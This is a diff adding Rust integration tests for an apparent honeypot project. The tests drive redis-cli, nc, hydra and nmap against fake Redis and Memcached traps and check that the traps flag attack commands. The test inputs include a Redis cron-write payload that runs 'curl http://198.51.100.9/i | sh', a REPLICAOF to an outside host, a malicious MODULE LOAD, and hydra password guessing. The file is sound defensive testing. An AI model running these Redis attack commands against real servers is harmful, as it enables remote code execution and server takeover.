@@ -1,0 +1,74 @@
+//! Real clients at the stores of keys and values.
+
+use crate::support::{Traps, printed, run, run_with};
+use honeymesh_types::{Signs, Visit};
+
+async fn command(traps: &mut Traps, trap: &str, command: &str) -> Visit {
+    traps.visit_where(|visit| visit.trap == trap && visit.fields.get("command").is_some_and(|said| said == command)).await
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn redis_cli_is_at_home_and_shows_its_hand() {
+    let mut traps = Traps::usual();
+    let port = traps.port("redis").to_string();
+    let lines = [
+        "PING\n",
+        "SET x \"\\n* * * * * curl http://198.51.100.9/i | sh\\n\"\n",
+        "GET x\n",
+        "CONFIG SET dir /var/spool/cron\n",
+        "CONFIG GET dir\n",
+        "REPLICAOF 198.51.100.9 6379\n",
+        "MODULE LOAD /tmp/exp.so\n",
+        "AUTH hunter2\n",
+    ];
+    let said = printed(&run_with("redis-cli", &["-p", &port], &lines).await);
+    for answer in ["PONG", "* * * * * curl", "/var/spool/cron", "Error loading the extension", "AUTH <password> called without"] {
+        assert!(said.contains(answer), "{answer}: {said}");
+    }
+    for (said, sign) in [
+        ("CONFIG SET dir /var/spool/cron", Signs::RULE),
+        ("REPLICAOF 198.51.100.9 6379", Signs::RULE),
+        ("MODULE LOAD /tmp/exp.so", Signs::RULE),
+        ("AUTH hunter2", Signs::CREDENTIALS),
+    ] {
+        assert_eq!(command(&mut traps, "redis", said).await.signs, sign, "{said}");
+    }
+    let login = run("redis-cli", &["-p", &port, "--user", "root", "--pass", "toor", "INFO", "server"]).await;
+    assert!(printed(&login).contains("redis_version:7.0.15"), "{}", printed(&login));
+    assert_eq!(traps.tries("redis", 1).await, [("root".into(), "toor".into())]);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_script_with_nc_stores_and_empties() {
+    let mut traps = Traps::usual();
+    let port = traps.port("memcached").to_string();
+    let lines = ["set a 0 0 5\r\nhello\r\n", "get a\r\n", "flush_all\r\n", "quit\r\n"];
+    let said = printed(&run_with("nc", &["127.0.0.1", &port], &lines).await);
+    assert_eq!(said, "STORED\r\nVALUE a 0 5\r\nhello\r\nEND\r\nOK\r\n");
+    assert_eq!(command(&mut traps, "memcached", "set a 0 0 5").await.fields["value"], "hello");
+    assert_eq!(command(&mut traps, "memcached", "flush_all").await.signs, Signs::RULE);
+    let inline = printed(&run_with("nc", &["127.0.0.1", &traps.port("redis").to_string()], &["PING\r\n", "QUIT\r\n"]).await);
+    assert_eq!(inline, "+PONG\r\n+OK\r\n");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn hydra_gets_the_answer_of_an_open_redis() {
+    let mut traps = Traps::usual();
+    let url = format!("redis://127.0.0.1:{}", traps.port("redis"));
+    let output = run("hydra", &["-I", "-t", "1", "-p", "hunter2", &url]).await;
+    assert!(printed(&output).contains("does not require password"), "{}", printed(&output));
+    let visit = traps.visit_where(|visit| visit.trap == "redis" && visit.bytes > 0).await;
+    assert!(visit.fields.contains_key("command"), "{:?}", visit.fields);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nmap_takes_them_for_redis_and_memcached() {
+    let traps = Traps::usual();
+    let ports = ["redis", "memcached"].map(|trap| traps.port(trap).to_string()).join(",");
+    let said = printed(&run("nmap", &["-sV", "--script", "default", "-Pn", "-n", "-p", &ports, "127.0.0.1"]).await);
+    // On their usual ports it would ask for the versions, too.
+    for product in ["Redis key-value store", "Memcached"] {
+        assert!(said.contains(product), "{product}: {said}");
+    }
+    assert!(!said.to_lowercase().contains("honey"), "{said}");
+}
